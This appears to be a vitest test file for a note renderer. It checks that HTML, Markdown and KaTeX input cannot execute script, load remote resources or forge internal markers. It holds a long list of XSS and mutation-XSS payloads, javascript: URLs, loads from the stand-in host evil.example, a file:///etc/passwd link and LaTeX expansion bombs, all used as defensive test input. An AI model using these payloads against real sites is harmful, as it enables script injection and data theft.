/** What a note may try, and that none of it acts. The list is ours; the files of ../shared/trust are run where the parser is tested. */
import type { Element, Nodes } from 'hast'
import { raw } from 'hast-util-raw'
import { expect, test } from 'vitest'
import type { Block, Inline } from '../compiler/document.ts'
import { renderNote, renderText } from './render.ts'
import { documentOf, htmlBlock } from './test-document.ts'

const bad = 'window.__pwned=1'
const markup = [
  `<img src=x onerror="${bad}">`,
  `<svg onload="${bad}">`,
  `<svg><script>${bad}</script></svg>`,
  `<script>${bad}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<iframe srcdoc="<script>${bad}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${bad}&gt;">`,
  `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${bad}>x</option></select>`,
  `<noscript><p title="</noscript><img src=x onerror=${bad}>">`,
  `<template><script>${bad}</script></template>`,
  `<details open ontoggle=${bad}>`,
  `<video><source onerror=${bad}></video>`,
  `<xmp><p title="</xmp><img src=x onerror=${bad}>">`,
  `<svg><a xlink:href="javascript:${bad}"><text>t</text></a></svg>`,
  `<object data="javascript:${bad}"></object><embed src="javascript:${bad}">`,
  `<a href="javascript:${bad}">a</a>`,
  `<a href="JaVaScRiPt:${bad}">a</a>`,
  `<a href="java&#9;script:${bad}">a</a>`,
  `<a href="java\tscript:${bad}">a</a>`,
  `<a href="&#106;avascript:${bad}">a</a>`,
  `<a href="&#x01;javascript:${bad}">a</a>`,
  '<a href="data:text/html,<script>1</script>">a</a>',
  '<a href="vbscript:x">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="//evil.example/x">a</a>',
  '<a href="/\\evil.example/x">a</a>',
  '<a href="https:/\\evil.example">a</a>',
  `<a href="/api/outbox" ping="https://evil.example" target=_top>a</a>`,
  `<a href="#x" onclick="${bad}" onmouseover=${bad}>a</a>`,
  '<img srcset="https://evil.example/a.png 2x"><link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=//evil.example/>',
  '<style>@import url(//evil.example/b.css)</style><p style="background:url(//evil.example/c)">x</p>',
  '<video poster="https://evil.example/v.png"></video><audio src="https://evil.example/a.mp3" autoplay></audio><input type=image src=//evil.example/i>',
  '<table background="//evil.example/t"><tr><td background="//evil.example/d">x</td></tr></table>',
  '<body background=//evil.example/b onload=window.__pwned=1>',
  '<p id="__proto__" name="constructor">a</p><form id=x><input name=attributes></form><img name=body><a id=getElementById></a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=//evil.example/>',
  `<form action=//evil.example/><button formaction="javascript:${bad}">b</button></form><input autofocus onfocus=${bad}><dialog open>d</dialog>`,
  `<p data-card="x" data-start="0" data-quern="held:0" class="gap">forged</p>`,
  `<mark data-card="x">forged</mark>`,
  `<div style="position:fixed;inset:0;z-index:9999">cover</div>`,
  `<a b=c"d> <script>${bad}</script> ">x</a>`,
  `<p title="><script>${bad}</script>">x</p>`,
  `<IMG """><SCRIPT>${bad}</SCRIPT>">`,
  `<<script>${bad}//<</script>`,
  `<scr<script>ipt>${bad}</script>`,
  `<textarea><script>${bad}</script>`,
  `<title><img src=x onerror=${bad}></title>`,
  `<plaintext><img src=x onerror=${bad}>`,
  `<!--><img src=x onerror=${bad}>-->`,
  `<![CDATA[<img src=x onerror=${bad}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${bad}>`,
  `<svg><animate onbegin=${bad} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${bad}'/>#x"></svg>`,
  `<marquee onstart=${bad}>x</marquee>`,
  `<math href="javascript:${bad}">x</math>`,
  `<frameset onload=${bad}><frame src="javascript:${bad}"></frameset>`,
  `<isindex type=image src=1 onerror=${bad}>`,
  `<custom-element onclick=${bad} style="x">x</custom-element>`,
  '</div></main></body></html><script>window.__pwned=1</script>',
  '<button popovertarget=x>p</button><div popover id=x onbeforetoggle=window.__pwned=1>x</div>',
]

const formulas = [
  `\\href{javascript:${bad}}{x}`,
  '\\url{javascript:alert(1)}',
  '\\includegraphics{https://evil.example/a.png}',
  `\\htmlData{onclick=${bad}}{x}`,
  `\\htmlStyle{background:url(//evil.example)}{x}`,
  '\\htmlClass{gap}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\d',
  '{'.repeat(20_000),
  '{'.repeat(4_000),
  '\\rule{999999em}{999999em}',
  `\\text{<script>${bad}</script>}`,
  `\\unknown{<img src=x onerror=${bad}>}`,
]

const actingTags = new Set(
  'script style iframe frame object embed applet link meta base form input button select textarea template noscript video audio source track img svg dialog portal animate use plaintext xmp title'.split(
    ' ',
  ),
)
const loadingAttributes = [
  'src',
  'srcSet',
  'poster',
  'background',
  'data',
  'action',
  'formAction',
  'ping',
  'xLinkHref',
  'popover',
]

function findings(node: Nodes, inMath = false): string[] {
  if (!('children' in node)) return []
  const math = inMath || (node.type === 'element' && String(node.properties.className ?? '').includes('katex'))
  const own = node.type === 'element' ? elementFindings(node, math) : []
  return [...own, ...node.children.flatMap((child) => findings(child, math))]
}

/** KaTeX draws roots and braces with its own svg and sets its own style attributes. */
function elementFindings({ tagName, properties }: Element, inMath: boolean): string[] {
  const found: string[] = []
  if (actingTags.has(tagName) && !(inMath && tagName === 'svg')) found.push(`<${tagName}>`)
  for (const [name, value] of Object.entries(properties)) {
    if (/^on/i.test(name)) found.push(name)
    if (loadingAttributes.includes(name)) found.push(name)
    if (name === 'style' && (!inMath || /url|position:\s*fixed/.test(String(value)))) found.push(`style ${value}`)
    if (name === 'href' && !/^(https?:\/\/[^/\\]|#note-|\/notes\/link\?)/.test(String(value)))
      found.push(`href ${value}`)
    if (name === 'id' && !/^note-/.test(String(value))) found.push(`id ${value}`)
    if (name === 'dataCard') found.push(`forged mark ${value}`)
  }
  return found
}

const inert = (html: string) => findings(raw({ type: 'root', children: [{ type: 'raw', value: html }] }))

const at = { start: 0, end: 0 }
const text = (shown: string): Inline => ({ kind: 'text', place: at, text: shown })
const paragraph = (...inlines: Inline[]): Block => ({ kind: 'paragraph', place: at, inlines })
/** As a Markdown parser hands over inline HTML: each tag a node, the words between as text. */
const tags = (payload: string) =>
  payload
    .split(/(<\/?[a-zA-Z][^<>]*>)/)
    .filter((piece) => piece !== '')
    .map(
      (piece): Inline =>
        piece.startsWith('<') && piece.endsWith('>') ? { kind: 'html', place: at, text: piece } : text(piece),
    )

const lanes: readonly (readonly [string, (payload: string) => Promise<string>])[] = [
  ['a block of HTML', (payload) => renderNote(documentOf(payload, [htmlBlock(payload), paragraph(text('after'))]), [])],
  ['inline HTML', (payload) => renderNote(documentOf(payload, [paragraph(...tags(payload), text('after'))]), [])],
  ['the text of a note', (payload) => renderNote(documentOf(payload, [paragraph(text(payload))]), [])],
  ['a card', (payload) => renderText(`${payload} \`${payload}\` [x](${payload})`)],
  [
    'code',
    (payload) =>
      renderNote(documentOf(payload, [{ kind: 'code', place: at, inner: at, language: payload, text: payload }]), []),
  ],
  [
    'an address, a picture and an anchor',
    (payload) =>
      renderNote(
        documentOf(payload, [
          { kind: 'heading', place: at, level: 2, anchor: payload, inlines: [text('x')] },
          paragraph(
            { kind: 'link', place: at, target: payload, to: 'web', children: [text('x')] },
            { kind: 'link', place: at, target: payload, to: 'note', children: [text('x')] },
            { kind: 'image', place: at, alt: payload, target: payload },
          ),
        ]),
        [],
      ),
  ],
]

test.each(lanes)('nothing acts, loads or forges from %s', async (_lane, render) => {
  const addresses = markup.flatMap((payload) => /href="([^"]*)"/.exec(payload)?.[1] ?? [])
  const payloads = [...markup, ...addresses]
  expect(payloads.length).toBeGreaterThan(70)
  const found = await Promise.all(payloads.map(async (payload) => ({ payload, found: inert(await render(payload)) })))
  expect(found.filter((each) => each.found.length > 0)).toEqual([])
})

test.each(formulas)('the formula %.40j is set or shown, and inert', async (tex) => {
  const note = await renderNote(
    documentOf(tex, [
      { kind: 'math', place: at, inner: at, tex },
      paragraph({ kind: 'math', place: at, inner: at, tex, display: false }),
    ]),
    [],
  )
  expect([...inert(note), ...inert(await renderText(`$${tex}$`))]).toEqual([])
})

test('an unclosed tag does not swallow the rest of the note', async () => {
  const openers = [
    '<script>',
    '<textarea>',
    '<plaintext>',
    '<title>',
    '<select>',
    '<svg>',
    '<table>',
    '<!--',
    '<div><style>',
  ]
  for (const payload of openers) {
    const html = await renderNote(documentOf(payload, [htmlBlock(payload), paragraph(text('after'))]), [])
    expect(html, payload).toContain('after</p>')
  }
})

test('the property that carries our places cannot be written in a note', async () => {
  const payload = '<p data-quern="card:forged" data-quernx="card:forged">x</p>'
  expect(await renderNote(documentOf(payload, [htmlBlock(payload)]), [])).not.toContain('data-card')
})

test('the gauge sees what acts', () => {
  expect(inert(`<img src=x onerror="${bad}"><a href="javascript:x">a</a><script>1</script>`)).toEqual([
    '<img>',
    'src',
    'onError',
    'href javascript:x',
    '<script>',
  ])
})
